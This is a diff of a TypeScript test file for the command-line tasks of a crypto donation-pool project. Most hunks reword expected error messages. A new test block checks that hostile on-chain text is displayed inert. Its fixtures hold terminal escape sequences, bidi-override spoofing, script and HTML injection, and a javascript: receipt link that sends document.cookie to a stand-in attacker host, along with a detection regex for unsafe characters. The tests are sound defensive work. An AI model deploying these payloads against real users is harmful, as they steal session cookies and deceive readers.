@@ -9,10 +9,10 @@ import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import path from "node:path";
 import { readDeployment, type DeploymentRecord } from "../scripts/lib/deployments.js";
-import { decodeMetadata } from "../scripts/lib/metadata.js";
+import { decodeMetadata, encodeMetadata } from "@potluck/core";
 import { useSession } from "../scripts/lib/session.js";
 import type { IPool } from "../types/ethers-contracts/index.js";
-import { ClaimStatus, ElectionPhase, SeatStatus } from "./helpers/potluck.js";
+import { ClaimStatus, defaultConfig, ElectionPhase, SeatStatus } from "./helpers/potluck.js";
 
 interface Run {
   success: boolean;
@@ -244,7 +244,7 @@ describe("scripts and tasks", function () {
       expect(await typeChecker.hasObjected(ids[4], signers[10].address)).to.equal(true);
       expect(await ok("pool:pay", { pool: "0", claim: `0x${ids[3].toString(16).padStart(64, "0")}` })).to.match(/Paid claim #3 of Tiny Type Checker: 0\.6 ETH to 0x70997970/);
       expect((await typeChecker.claim(ids[3]))[1]).to.equal(ClaimStatus.Paid);
-      await fails("pool:pay", { pool: "0", claim: "3" }, /Claim #3 is not pending: it is paid\./);
+      await fails("pool:pay", { pool: "0", claim: "3" }, /Claim #3 is no longer pending: it is paid\./);
       await fails("pool:pay", { pool: "0", claim: "#99" }, /Tiny Type Checker has no claim #99: its claims are #0 to #\d+\./);
       await fails("pool:object", { pool: "0", claim: `0x${"ab".repeat(32)}`, from: "10" }, /has no claim with id 0xabab/);
       await fails("pool:object", { pool: "0", claim: "the big one", from: "10" }, /"the big one" is not a claim: give its number/);
@@ -266,11 +266,11 @@ describe("scripts and tasks", function () {
       await fails("pool:claim", { pool: "0", line: "0", amount: "0.001", receipt, from: "1" }, /This receipt \(keccak-256 0x[0-9a-f]{8}…\) was already filed in this pool: a receipt backs one claim only\./);
       const another = path.join(dir, "another.txt");
       await writeFile(another, "Hetzner invoice 43: 2 ETH");
-      await fails("pool:claim", { pool: "0", line: "0", amount: "2 ETH", receipt: another, from: "1" }, /Line 0 \(hosting\) has only 0\.005 ETH left this period; the claim asks for 2 ETH\./);
+      await fails("pool:claim", { pool: "0", line: "0", amount: "2 ETH", receipt: another, from: "1" }, /Budget line 0 \("hosting"\) has only 0\.005 ETH left this period; the claim asks for 2 ETH\./);
       await fails("pool:claim", { pool: "0", line: "catering", amount: "1", receipt: another, from: "1" }, /has no budget line named "catering"/);
       await fails("pool:claim", { pool: "0", line: "0", amount: "0.001", receipt: another, from: "2" }, /Only the pool's maintainer can do this/);
       await fails("pool:claim", { pool: "0", line: "0", amount: "0.001", receipt: path.join(dir, "missing.pdf"), from: "1" }, /Cannot read the receipt .*no such file/);
-      await fails("pool:pay", { pool: "0", claim: String(number) }, new RegExp(`Claim #${number} is still in its challenge window: it can be paid from .*, in \\d+h`));
+      await fails("pool:pay", { pool: "0", claim: String(number) }, new RegExp(`Claim #${number} is still in its challenge window: it can be paid from .* \\(in \\d+h`));
     });
 
     it("pool:cancel withdraws a pending claim and frees its budget", async function () {
@@ -283,15 +283,15 @@ describe("scripts and tasks", function () {
       expect(out).to.match(/Its budget is freed: line 0 \(hosting\) has 0\.045 ETH left this period\./);
       expect((await pool.claim(ids[4]))[1]).to.equal(ClaimStatus.Cancelled);
       expect((await pool.budgetLine(0))[4] - leftBefore).to.equal(4n * 10n ** 16n);
-      await fails("pool:cancel", { pool: "0", claim: "4", from: "1" }, /Claim #4 is not pending: it is cancelled\./);
-      await fails("pool:cancel", { pool: "0", claim: "#0", from: "1" }, /Claim #0 is not pending: it is paid\./);
+      await fails("pool:cancel", { pool: "0", claim: "4", from: "1" }, /Claim #4 is no longer pending: it is cancelled\./);
+      await fails("pool:cancel", { pool: "0", claim: "#0", from: "1" }, /Claim #0 is no longer pending: it is paid\./);
     });
 
     it("pool:collect collects a due standing order in the pool's token", async function () {
       const lab = await poolAt(1);
       const mei = signers[7].address; // 15 mUSD a day, collected twice by the seed
       const [perPeriod, period, nextDue] = await lab.subscriptionOf(mei);
-      await fails("pool:collect", { pool: "1", donor: "7" }, new RegExp(`The standing order of ${mei} is not due yet: next from .*, in \\d+h`));
+      await fails("pool:collect", { pool: "1", donor: "7" }, new RegExp(`The standing order of ${mei} is not due yet: the next gift can be collected from .* \\(in \\d+h`));
       await fails("pool:collect", { pool: "1", donor: "9" }, new RegExp(`${signers[9].address} has no standing order in this pool\\.`));
       await fails("pool:collect", { pool: "0", donor: "7" }, /Tiny Type Checker is an ETH pool: standing orders are for token pools only\./);
       await fails("pool:collect", { pool: "1", donor: "Mei" }, /The donor "Mei" is not an address/);
@@ -345,7 +345,7 @@ describe("scripts and tasks", function () {
       expect(out).to.match(/line 0: repairs, 150 mUSD per 30d/);
       await writeFile(file, JSON.stringify({ name: "Typo", epochs: "1h" }));
       await fails("pool:create", { configFile: file }, /unknown setting\(s\) epochs/);
-      await fails("pool:create", { name: "Too fast", epoch: "10m" }, /The epoch length must be between 1h and 365d \(got 10m\)\./);
+      await fails("pool:create", { name: "Too fast", epoch: "10m" }, /The epoch length must be between 1 hour and 365 days \(got 10m\)\./);
       await fails("pool:create", { name: "Bad line", lines: "rent:5" }, /is not a budget line/);
     });
 
@@ -402,8 +402,8 @@ describe("scripts and tasks", function () {
 
     it("pool:call-election opens an election on an open seat once the last one is over, or on an abandoned one", async function () {
       const pool = await poolAt(5);
-      await fails("pool:call-election", { pool: "5" }, /Election #1 is already open \(once its voting epoch is over, pool:finalize closes it\)\./);
-      await fails("pool:call-election", { pool: "1" }, /The maintainer is active: the seat counts as abandoned only from .* UTC, in \d+d/);
+      await fails("pool:call-election", { pool: "5" }, /Election #1 is already open: once its voting epoch is over, finalizing it \(`pool:finalize`\) closes it\./);
+      await fails("pool:call-election", { pool: "1" }, /The maintainer is active: the seat counts as abandoned only from .* UTC \(in \d+d/);
       await fails("pool:call-election", { pool: "3" }, /This pool has wound down/);
       const [, , , votingEndsAt] = await pool.election();
       await connection.networkHelpers.time.increaseTo(votingEndsAt + 10n);
@@ -514,6 +514,69 @@ describe("scripts and tasks", function () {
         message = (error as Error).message;
       }
       expect(message).to.match(/The deployment has no MockUSD: deploy again on the local chain/);
+    });
+  });
+  // Issue 20: a pool created straight through the factory (the command line checks its own input, an attacker
+  // does not use it) whose every text is hostile. pool:list and pool:status must print it inert.
+  describe("text from the chain is shown inert", function () {
+    const ESC = "\u001b";
+    const NAME = `Evil \u202Egnp.exe <img src=x onerror=alert(1)> ${ESC}[2J ${ESC}[1;31m SEND ETH TO 0xBAD ${ESC}[0m`;
+    const LINE = `<b>line</b>${ESC}[2Jx`;
+    const metadata = {
+      name: NAME,
+      description: `<script>alert(1)</script>\u202E ${ESC}]0;pwned${ESC}\\ second line\nthird ${ESC}[1;31mred`,
+      links: ["javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>", "https://example.org/evil"],
+    };
+    // Every C0 and C1 control (ESC among them), DEL, and the bidi marks, embeddings, overrides and isolates.
+    // eslint-disable-next-line no-control-regex -- looking for control characters is the point
+    const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;
+    let index: number;
+
+    before(async function () {
+      const f = await factory();
+      const maintainer = signers[1];
+      const config = defaultConfig(maintainer.address, { metadataURI: encodeMetadata(metadata), inKindWeightBps: 1_000 });
+      await (await f.connect(signers[0]).createPool(config, [{ name: LINE, cap: 10n ** 18n, period: 30n * 86_400n }])).wait();
+      index = Number(await f.poolCount()) - 1;
+      const pool = await poolAt(index);
+      await (await pool.connect(signers[2]).give(10n ** 17n, { value: 10n ** 17n })).wait();
+      const receiptURI = "javascript:fetch('https://evil.example/'+document.cookie)";
+      await (await pool.connect(maintainer).fileClaim(0, 10n ** 16n, maintainer.address, connection.ethers.id("evil receipt"), receiptURI)).wait();
+      await (await pool.connect(signers[3]).pledge(`${ESC}[2J\u202Etpircs <script>`, 10n ** 15n, 86_400n, 3)).wait();
+    });
+
+    it("pool:list prints the name without escapes or overrides, cut so the address stays in view", async function () {
+      const list = await ok("pool:list");
+      expect(list).to.not.match(UNSAFE);
+      const row = list.split("\n").find((l) => l.includes("gnp.exe"))!;
+      expect(row).to.include("Evil \uFFFDgnp.exe <img src=x");
+      expect(row).to.match(/…/);
+      expect(row).to.include(await (await factory()).poolAt(index));
+    });
+
+    it("pool:status prints names, description, line names, receipts and pledges inert, and no link but http(s) or ipfs", async function () {
+      const status = await ok("pool:status", { pool: String(index) });
+      expect(status).to.not.match(UNSAFE);
+      expect(status).to.include("Evil \uFFFDgnp.exe <img src=x onerror=alert(1)> \uFFFD[2J");
+      expect(status).to.include("<script>alert(1)</script>\uFFFD \uFFFD]0;pwned");
+      expect(status).to.include("  third \uFFFD[1;31mred");
+      expect(status).to.match(/^ {2}https:\/\/example\.org\/evil$/m);
+      // A javascript: or data: link is printed as text, marked as not a link, never on a line of its own.
+      const links = status.split("\n").filter((l) => /javascript:|data:/.test(l));
+      expect(links).to.have.length(3);
+      for (const l of links) expect(l).to.include("(not a link: only https, http and ipfs links are shown as links)");
+      expect(status).to.match(/#0 receipt: javascript:fetch\('https:\/\/evil\.example\/'\+document\.cookie\) \(not a link/);
+      expect(status).to.match(/0 +<b>line<\/b>\uFFFD\[2Jx +1 ETH \/ 30d/);
+      expect(status).to.include('#0 offered: "\uFFFD[2J\uFFFDtpircs <script>" by');
+    });
+
+    it("the sentences of errors show line names inert too", async function () {
+      const receipt = path.join(dir, "evil-receipt.txt");
+      await writeFile(receipt, "another receipt");
+      const r = await run("pool:claim", { pool: String(index), line: "0", amount: "5 ETH", receipt, from: "1" });
+      expect(r.success).to.equal(false);
+      expect(r.err).to.not.match(UNSAFE);
+      expect(r.err).to.include('Budget line 0 ("<b>line</b>\uFFFD[2Jx") has only');
     });
   });
 });
